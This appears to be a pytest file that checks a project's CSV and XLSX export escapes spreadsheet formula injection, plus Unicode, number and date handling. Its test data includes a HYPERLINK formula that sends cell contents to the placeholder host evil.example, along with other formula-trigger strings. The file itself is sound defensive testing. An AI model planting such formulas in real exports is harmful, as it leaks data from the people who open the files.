"""Formula-injection-safe CSV/XLSX export."""

import csv
import io
from datetime import datetime
from decimal import Decimal

from openpyxl import load_workbook

from complaintdesk.insights.export import iter_csv, safe_cell, write_csv, write_xlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HEADER = ["id", "text", "amount"]
ROWS = [
    [1, PAYLOAD, 10.5],
    [2, "Банкомат съел деньги — верните 5 000 ₽", 5000],
    [3, "+1 dial", Decimal("2.25")],
    [4, "@SUM(A1:A2)", -3],
    [5, "\tcmd", 0],
    [6, " -2+3", None],
]


def test_text_cells_starting_with_formula_triggers_get_an_apostrophe():
    for raw in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "  =1"):
        assert safe_cell(raw) == "'" + raw
    assert safe_cell("hello = world") == "hello = world"


def test_numbers_and_none_pass_through_untouched():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell(Decimal("-1")) == Decimal("-1")


def test_csv_payload_comes_out_inert_and_russian_survives(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, HEADER, ROWS)
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == HEADER
    assert rows[1][1] == "'" + PAYLOAD
    assert rows[2][1] == "Банкомат съел деньги — верните 5 000 ₽"
    assert rows[4][1].startswith("'@") and rows[5][1] == "'\tcmd"
    assert rows[1][2] == "10.5" and rows[4][2] == "-3"  # numbers are not prefixed


def test_csv_streams_one_line_per_row():
    lines = list(iter_csv(HEADER, iter(ROWS)))
    assert len(lines) == len(ROWS) + 1
    assert all(line.endswith("\r\n") for line in lines)
    assert not lines[0].startswith("\ufeff")
    assert next(iter_csv(HEADER, [], bom=True)).startswith("\ufeff")


def test_xlsx_payload_is_text_not_formula_and_numbers_stay_numeric(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, HEADER, ROWS + [[7, "дата", datetime(2024, 3, 1, 12, 0)]])
    ws = load_workbook(path).active
    assert [c.value for c in ws[1]] == HEADER
    payload = ws.cell(row=2, column=2)
    assert payload.data_type == "s" and payload.value == "'" + PAYLOAD
    assert ws.cell(row=3, column=2).value == "Банкомат съел деньги — верните 5 000 ₽"
    assert ws.cell(row=2, column=3).value == 10.5 and ws.cell(row=2, column=3).data_type == "n"
    assert ws.cell(row=3, column=3).value == 5000
    assert ws.cell(row=5, column=3).value == -3 and ws.cell(row=5, column=3).data_type == "n"
    assert ws.cell(row=8, column=3).value == datetime(2024, 3, 1, 12, 0)


def test_xlsx_drops_control_characters_instead_of_failing(tmp_path):
    path = tmp_path / "ctrl.xlsx"
    write_xlsx(path, ["t"], [["bad\x01char"]])
    assert load_workbook(path).active.cell(row=2, column=1).value == "badchar"
